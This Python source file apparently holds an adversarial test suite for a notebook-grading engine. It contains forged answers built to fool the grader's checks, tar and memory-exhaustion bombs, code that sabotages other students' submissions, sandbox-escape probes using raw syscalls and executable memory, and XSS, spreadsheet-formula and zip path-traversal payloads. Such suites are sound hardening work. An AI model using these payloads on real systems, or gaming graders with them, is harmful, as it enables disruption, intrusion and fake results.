"""Attacks found by reading the engine as its enemy: what its trusted side parses, what its filters let through by path, what it
shares between submissions, and answers that a hurried comparison takes for right.
"""

from __future__ import annotations

import gzip
import io
import json
import tarfile

from attacks_exhaust import exhausting
from attacks_forge import _PIPES, forging
from attacks_smuggle import zipped
from records import Attack, escaping, reading


def _tar(*entries: tuple[str, bytes, bytes]):
    """A compressed tar of these raw entries (name, type, contents), whatever they mean."""

    def make(notebook: str, paths: dict) -> tuple[str, bytes]:
        out = io.BytesIO()
        for name, kind, data in entries:
            info = tarfile.TarInfo(name)
            info.type, info.size = kind, len(data)
            out.write(info.tobuf() + data + bytes(-len(data) % 512))
        out.write(bytes(1024))
        return "mallory.tar.gz", gzip.compress(out.getvalue(), 1)

    return make


def _crowded(notebook: str, paths: dict) -> tuple[str, bytes]:
    return "mallory.ipynb", json.dumps(json.loads(notebook))[:-1].encode() + b', "x": [' + b"{}," * 12_500_000 + b"0]}"


def _named_in_a_zip(name: str):
    def make(notebook: str, paths: dict) -> tuple[str, bytes]:
        import zipfile

        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr(name, notebook)
        return "mallory.zip", out.getvalue()

    return make


def _record(key: str, value: str) -> bytes:
    line = f" {key}={value}\n"
    size = len(line) + 2
    return f"{size + (len(str(size)) - 2)}{line}".encode()


_SPARSE = _record("GNU.sparse.major", "1") + _record("GNU.sparse.minor", "0") + _record("GNU.sparse.realsize", "1")
_CODE_OF_32_BITS = r"""
import mmap
code = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(bytes.fromhex("b814000000cd80c3"))  # getpid by the 32-bit gate
address = ctypes.addressof(ctypes.c_char.from_buffer(code))
if ctypes.CFUNCTYPE(ctypes.c_int)(address)() <= 0: raise OSError(errno.ENOSYS, "")
"""
_WITH_DESCRIPTORS = _PIPES + """
import array, socket
def with_descriptors(data):
    everywhere(b"")
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                s = socket.socket(fileno=os.dup(fd))
                for _ in range(20): s.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2]))])
        except OSError: pass
def half_closed():
    everywhere(b"")
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode): socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RD)
        except OSError: pass
"""

SECOND_LOOK: tuple[Attack, ...] = (
    reading(
        "read-step-by-step",
        "at = os.open('/', os.O_PATH)\ntry:\n    for part in PATHS['suite'].strip('/').split('/'): at = os.open(part, os.O_PATH, dir_fd=at)\n    read(f'/proc/self/fd/{at}'); read(f'/dev/fd/{at}')\nexcept OSError: pass",
    ),
    reading(
        "a-library-that-reads",
        "try: look(np.genfromtxt(PATHS['suite'], dtype=str, delimiter='\\n', comments=None))\nexcept BaseException as e: look(e)\ntry:\n    import linecache; look(linecache.getlines(PATHS['suite']))\nexcept OSError: pass",
    ),
    # ---- answers that a hurried comparison takes for right
    forging("an-empty-answer", double="def double(x):\n    return np.zeros((0, 3))"),
    forging("an-array-of-yes-sayers", double="class Yes:\n    def __eq__(self, other): return True\ndef double(x):\n    return np.array([Yes(), Yes(), Yes()], dtype=object)"),
    forging("a-group-of-errors-where-one-is-asked", refuse="def refuse(x):\n    raise BaseExceptionGroup('all', [ValueError('no'), TypeError('no')])"),
    forging("a-warning-where-an-error-is-asked", refuse="def refuse(x):\n    raise UserWarning('ValueError')"),
    Attack("descriptors-with-a-reply", "forge", "score", cell=_WITH_DESCRIPTORS, double="def double(x):\n    with_descriptors(frame(answer(0.0)))\n    return x"),
    Attack("half-a-connection", "forge", "score", cell=_WITH_DESCRIPTORS, double="def double(x):\n    half_closed()\n    return x"),
    # ---- what the trusted side parses
    Attack("a-thousand-elifs", "exhaust", "death", cell="if 0: pass\n" + "elif 0: pass\n" * 1300),
    Attack("a-tower-of-lambdas", "exhaust", "death", cell="f = " + "lambda: " * 1300 + "1"),
    Attack("a-chain-of-sums", "exhaust", "death", cell="f = lambda: 1" + " + 1" * 2500),
    Attack("a-chain-of-calls", "exhaust", "death", cell="def f(): return f" + "()" * 2500),
    Attack("a-notebook-of-ten-million-lists", "exhaust", "memory", file=_crowded, expected=None),
    Attack("a-tar-that-says-too-much", "exhaust", "time", file=_tar(("x", b"x", b"1" * 600_000), ("work.ipynb", b"0", b"{}")), expected=None),
    Attack("a-table-of-holes-without-end", "exhaust", "time", file=_tar(("x", b"x", _SPARSE), ("work.ipynb", b"0", b"90000000\n" + b"1\n" * 25_000_000)), expected=None),
    exhausting("zeros-mapped-for-all", "memory", "import mmap\nfd = os.open('/dev/zero', os.O_RDWR)\nkeep = [mmap.mmap(fd, 10**7, mmap.MAP_SHARED) for _ in range(150)]\nfor m in keep: m[:] = b'x' * 10**7"),
    exhausting("memory-that-grows-downwards", "memory", "import mmap\nkeep = []\nfor _ in range(150):\n    m = mmap.mmap(-1, 10**7, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x100); m[:] = b'x' * 10**7; keep.append(m)"),
    # ---- what filters of paths let through
    Attack("the-neighbours-notebook-closed", "poison", "neighbour", cell="try: os.chmod(PATHS['neighbour'], 0)\nexcept OSError: pass"),
    Attack("the-neighbours-notebook-dated", "poison", "neighbour", cell="try: os.utime(PATHS['neighbour'], (4 * 10**9, 4 * 10**9))\nexcept OSError: pass"),
    Attack("the-neighbours-notebook-cut", "poison", "neighbour", cell="try: os.truncate(PATHS['neighbour'], 10)\nexcept OSError: pass"),
    Attack("the-neighbours-notebook-renamed", "poison", "neighbour", cell="try: os.rename(PATHS['neighbour'], PATHS['neighbour'] + '.hostile-left')\nexcept OSError: pass"),
    Attack("every-descriptor-taken", "poison", "neighbour", double="keep = []\ndef double(x):\n    try:\n        while True: keep.append(os.dup(0))\n    except OSError: pass\n    return x"),
    Attack("a-hundred-sleeping-threads-for-the-next", "poison", "neighbour", cell="import threading, time\nsys.setswitchinterval(1e-4)\ndef late():\n    while not os.getcwd().endswith('zoe'): time.sleep(0.002)\n    np.all = np.allclose = lambda *a, **k: False\nfor _ in range(20): threading.Thread(target=late, daemon=True).start()"),
    escaping("watch-a-folder-for-names", "raw(254, raw(294, 0), os.path.dirname(PATHS['neighbour']).encode(), 0x100)"),
    escaping("a-datagram-to-a-name", "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\ntry: a.sendto(b'x', '\\0hostile-nobody')\nexcept ConnectionRefusedError: pass"),
    escaping("a-limit-of-its-own", "import resource\nresource.setrlimit(resource.RLIMIT_NOFILE, resource.getrlimit(resource.RLIMIT_NOFILE))"),
    escaping("memory-to-share", "import mmap; mmap.mmap(-1, 4096)"),
    escaping("everything-written-to-the-disk", "raw(162)"),
    escaping("a-lease-on-a-file", "fd = os.open('lease', os.O_CREAT | os.O_RDONLY)\nfcntl.fcntl(fd, 1024, 0)"),
    escaping("calls-of-32-bits", _CODE_OF_32_BITS.strip(), needs=("x86-64", "32 bits")),
    # ---- what pages and tables say
    Attack("a-script-in-a-type-name", "smuggle", "markup", raw="<script>t", double="def double(x):\n    return type('<script>t</script>', (), {})()"),
    Attack("a-script-in-a-note", "smuggle", "markup", raw="<script>n", double="def double(x):\n    e = ValueError('x')\n    e.add_note('<script>n</script>')\n    raise e"),
    Attack("a-script-as-a-language", "smuggle", "markup", raw="<script>l", metadata={"language_info": {"name": "<script>l</script>"}}),
    Attack("a-script-in-a-name-in-a-zip", "smuggle", "markup", raw="<img src=x onerror=alert(2)>", file=_named_in_a_zip("<img src=x onerror=alert(2)>.ipynb")),
    Attack("a-formula-behind-a-semicolon", "smuggle", "markup", raw="\nx;=HYPERLINK", file=lambda n, p: ('x;=HYPERLINK("http:evil.example","x").ipynb', n.encode())),
    Attack("a-zip-in-a-zip-in-a-zip", "smuggle", "file", file=zipped(("a/b/../../../../hostile-left.txt", "x"), ("c.zip", "PK"))),
)  # fmt: skip
